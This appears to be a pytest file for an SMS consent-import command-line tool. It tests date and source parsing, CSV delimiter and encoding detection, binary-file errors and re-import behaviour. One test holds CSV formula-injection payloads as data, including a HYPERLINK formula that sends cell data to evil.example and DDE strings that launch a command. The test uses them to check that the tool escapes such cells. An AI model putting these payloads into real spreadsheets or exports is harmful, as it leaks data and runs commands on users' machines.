"""``neariq-sms consent import`` as people feed it, run as a real process from a fresh directory.

Issue 14: US dates and free-text sources were rejected by the thousand;
semicolon, UTF-16 and binary files all got "has no phone column"; formula
cells went back unescaped into FILE.rejected.csv; re-importing a file without
dates moved every consent date to now.
"""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import attrs
import pytest

from tests.http.live import clean_env, neariq_sms_command

#: What a spreadsheet would run as a formula when it opens the file.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@attrs.frozen
class Cli:
    """The installed command against one fresh SQLite file, run from its own directory."""

    directory: Path
    database_url: str

    def run(self, *argv: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*neariq_sms_command(), *argv],
            cwd=self.directory,
            env=clean_env(self.database_url),
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    def ok(self, *argv: str) -> list[str]:
        done = self.run(*argv)
        assert done.returncode == 0, done.stderr
        return done.stdout.splitlines()

    def import_(self, name: str, business: str, *options: str) -> dict[str, int]:
        lines = self.ok("consent", "import", name, "--business", business, *options)
        return {k: int(v) for k, v in (line.split() for line in lines[:4])}

    def export(self, business: str) -> dict[str, dict[str, str]]:
        lines = self.ok("consent", "export", "--business", business)
        return {r["phone"]: r for r in csv.DictReader(io.StringIO("\n".join(lines)))}


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> str:
    """One migrated SQLite file for the module (each test has its own business)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('db') / 'sms.db'}"
    Cli(tmp_path_factory.mktemp("migrate"), url).ok("db", "upgrade")
    return url


@pytest.fixture
def cli(tmp_path: Path, database: str) -> Cli:
    """Run from a fresh, empty directory: the files named are relative to it."""
    directory = tmp_path / "fresh"
    directory.mkdir()
    return Cli(directory, database)


@pytest.fixture
def business(cli: Cli) -> str:
    return cli.ok("business", "create", "--name", "Aster Grove", "--plan", "growth")[-1]


def write(cli: Cli, name: str, text: str, encoding: str = "utf-8") -> str:
    (cli.directory / name).write_bytes(text.encode(encoding))
    return name


# --- dates and sources as people write them ------------------------------------------


def test_us_dates_and_free_text_sources_are_imported(cli: Cli, business: str) -> None:
    """01/05/2024, 1/5/24, with a time; "paper form", "Front Desk": imported, not rejected."""
    name = write(
        cli,
        "contacts.csv",
        "Name,Mobile,Consent Date,Source\n"
        "Jane,(555) 765-0001,01/05/2024,paper form\n"
        "Ana,555-765-0002,1/5/24,Front Desk\n"
        "Bo,+1 555 765 0003,01/05/2024 14:30,\n"
        "Cy,555.765.0004,Jan 5 2024,Point-of-Sale\n"
        "Dee,555 765 0005,13/01/2024,paper form\n"
        "Eve,555 765 0006,2024-01-05,keyword\n",
    )
    assert cli.import_(name, business) == {"imported": 4, "updated": 0, "skipped": 0, "rejected": 2}
    records = cli.export(business)
    assert {p: (r["consented_at"], r["source"]) for p, r in records.items()} == {
        "+15557650001": ("2024-01-05T00:00:00Z", "paper_form"),
        "+15557650002": ("2024-01-05T00:00:00Z", "front_desk"),
        "+15557650003": ("2024-01-05T14:30:00Z", "import"),
        "+15557650004": ("2024-01-05T00:00:00Z", "point_of_sale"),
    }
    rejected = list(csv.reader((cli.directory / "contacts.rejected.csv").open(encoding="utf-8")))
    reasons = {row[0]: row[-1] for row in rejected[1:]}
    assert "--day-first" in reasons["Dee"] or "day-first" in reasons["Dee"]
    assert "library itself" in reasons["Eve"]


def test_day_first_files_are_read_with_the_option(cli: Cli, business: str) -> None:
    """``--day-first``: 05/01/2024 is 5 January; ISO dates are unaffected."""
    name = write(
        cli, "eu.csv", "phone;consented_at\n555-765-0001;05/01/2024\n555-765-0002;2024-01-06\n"
    )
    assert cli.import_(name, business, "--day-first")["imported"] == 2
    assert {p: r["consented_at"] for p, r in cli.export(business).items()} == {
        "+15557650001": "2024-01-05T00:00:00Z",
        "+15557650002": "2024-01-06T00:00:00Z",
    }


def test_a_reserved_source_option_is_one_line_and_changes_nothing(cli: Cli, business: str) -> None:
    name = write(cli, "a.csv", "phone\n555-765-0001\n")
    done = cli.run("consent", "import", name, "--business", business, "--source", "provider")
    assert done.returncode == 1
    assert len(done.stderr.splitlines()) == 1
    assert "provider" in done.stderr
    assert cli.export(business) == {}


# --- file formats --------------------------------------------------------------------

ROWS = [["Phone", "Consent Date", "Source"], ["555-765-0001", "01/05/2024", "paper form"],
        ["(555) 765-0002", "2024-01-06", "web_form"]]  # fmt: skip


def _csv(delimiter: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(ROWS)
    return out.getvalue()


#: (delimiter, encoding) of the files spreadsheets save.
FORMATS = [
    (",", "utf-8"),
    (",", "utf-8-sig"),  # Excel's "CSV UTF-8"
    (";", "utf-8"),  # a comma-decimal locale's "CSV"
    (";", "cp1252"),  # Excel on Windows, ANSI
    ("\t", "utf-16"),  # Excel's "Unicode text": UTF-16 LE with a byte-order mark
    (",", "utf-16-be-bom"),
    (",", "utf-16-le"),  # no byte-order mark
    ("|", "utf-8"),
]


def test_files_in_every_common_format_are_read(cli: Cli, business: str) -> None:
    """Delimiter sniffed from a sample, encoding from the byte-order mark (one file each)."""
    expected: set[str] = set()
    for n, (delimiter, encoding) in enumerate(FORMATS):
        text = _csv(delimiter).replace("765-000", f"765-{n}00")
        if encoding == "cp1252":
            text = text.replace("paper form", "Formulário")
        if encoding == "utf-16-be-bom":
            data = "\ufeff".encode("utf-16-be") + text.encode("utf-16-be")
        else:
            data = text.encode(encoding)
        (cli.directory / f"f{n}.csv").write_bytes(data)
        counts = cli.import_(f"f{n}.csv", business)
        assert (counts["imported"], counts["rejected"]) == (2, 0), (delimiter, encoding)
        expected |= {f"+1555765{n}001", f"+1555765{n}002"}
    records = cli.export(business)
    assert set(records) == expected
    assert records["+15557653001"]["source"] == "formulario"


NOT_TEXT = [
    (b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)) * 4, "Excel workbook"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200), "Excel 97-2003"),
    (bytes(range(256)) * 8, "binary"),
    (b"\x89PNG\r\n\x1a\n" + bytes(300), "binary"),
]


def test_a_file_that_is_not_text_is_one_clear_line(cli: Cli, business: str) -> None:
    """Not "has no phone column": what the file is and what to do, with no traceback."""
    for data, says in NOT_TEXT:
        (cli.directory / "contacts.csv").write_bytes(data)
        done = cli.run("consent", "import", "contacts.csv", "--business", business)
        assert done.returncode == 1
        [line] = done.stderr.splitlines()
        assert says in line
        assert "save it" in line
        assert not (cli.directory / "contacts.rejected.csv").exists()
    assert cli.export(business) == {}


def test_no_phone_column_names_what_was_read(cli: Cli, business: str) -> None:
    """The message says how the file was read and which columns it has."""
    name = write(cli, "x.csv", "name;email\nJane;j@example.com\n")
    done = cli.run("consent", "import", name, "--business", business)
    assert done.returncode == 1
    [line] = done.stderr.splitlines()
    assert "no phone column" in line
    assert "semicolon" in line
    assert "email" in line


def test_a_large_file_streams_with_a_sample_only(cli: Cli, business: str) -> None:
    """The format comes from the first bytes; a semicolon UTF-16 file of many rows imports."""
    lines = ["phone;consented_at"] + [
        f"+1555{2_000_000 + i:07d};1/{1 + i % 28}/2024" for i in range(3000)
    ]
    (cli.directory / "big.csv").write_bytes("\r\n".join(lines).encode("utf-16"))
    assert cli.import_("big.csv", business) == {
        "imported": 3000,
        "updated": 0,
        "skipped": 0,
        "rejected": 0,
    }


# --- the rejected file ----------------------------------------------------------------


def test_formula_cells_are_neutralised_in_the_rejected_file(cli: Cli, business: str) -> None:
    """OWASP: every cell a spreadsheet would run gets a leading quote, header included."""
    evil = [
        ['=HYPERLINK("http://evil.example/?"&A2,"fix me")', "=1+1", "web_form"],
        ["=cmd|' /C calc'!A0", "2024-01-05", "web_form"],
        ["@SUM(1+1)*cmd|' /C calc'!A0", "", ""],
        ["+1+cmd|' /C calc'!A0", "", ""],
        ["-2+3+cmd|' /C calc'!A0", "", ""],
        ["\t=1+2", "", ""],
        ["\r=1+2", "", ""],
        ["  =1+2", "", ""],
        ["555-765-0001", "=NOW()", "web_form"],
        ["555-765-0002", "2024-01-05", "=cmd|' /C calc'!A0"],
    ]
    out = io.StringIO()
    csv.writer(out).writerows([["=Phone", "consented_at", "source"], *evil])
    out.seek(0)
    body = out.getvalue().replace("=Phone", "phone", 1)
    name = write(cli, "evil.csv", body)
    counts = cli.import_(name, business)
    assert counts["rejected"] == len(evil)
    raw = (cli.directory / "evil.rejected.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(raw)))
    assert rows[0] == ["phone", "consented_at", "source", "line", "reason"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_START), row
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A2,"fix me")'
    assert rows[2][0] == "'=cmd|' /C calc'!A0"
    assert rows[6][0] == "'\t=1+2"
    assert rows[9][1] == "'=NOW()"
    assert rows[10][2] == "'=cmd|' /C calc'!A0"
    assert cli.export(business) == {}


def test_the_fixed_rejected_file_imports_as_it_is(cli: Cli, business: str) -> None:
    """A quoted phone cell (``'+1 ...``) reads back as the number."""
    name = write(cli, "a.csv", "phone,consented_at\n+1 555 765 0001,2999-01-01\n")
    assert cli.import_(name, business)["rejected"] == 1
    rejected = (cli.directory / "a.rejected.csv").read_text(encoding="utf-8")
    assert "'+1 555 765 0001" in rejected
    fixed = rejected.replace("2999-01-01", "2024-01-05")
    (cli.directory / "a.rejected.csv").write_text(fixed, encoding="utf-8")
    assert cli.import_("a.rejected.csv", business)["imported"] == 1
    assert cli.export(business)["+15557650001"]["consented_at"] == "2024-01-05T00:00:00Z"


# --- re-import --------------------------------------------------------------------------


def test_reimporting_a_file_without_dates_keeps_every_consent_date(cli: Cli, business: str) -> None:
    """The second run renews nothing: each stored date stays, dated or import time."""
    dated = write(cli, "dated.csv", "phone,consented_at\n555-765-0001,2024-01-05\n")
    assert cli.import_(dated, business)["imported"] == 1
    undated = write(cli, "undated.csv", "phone,name\n555-765-0001,Jane\n555-765-0002,Ana\n")
    assert cli.import_(undated, business) == {
        "imported": 1,
        "updated": 0,
        "skipped": 1,
        "rejected": 0,
    }
    before = cli.export(business)
    assert before["+15557650001"]["consented_at"] == "2024-01-05T00:00:00Z"
    assert cli.import_(undated, business) == {
        "imported": 0,
        "updated": 0,
        "skipped": 2,
        "rejected": 0,
    }
    assert cli.export(business) == before
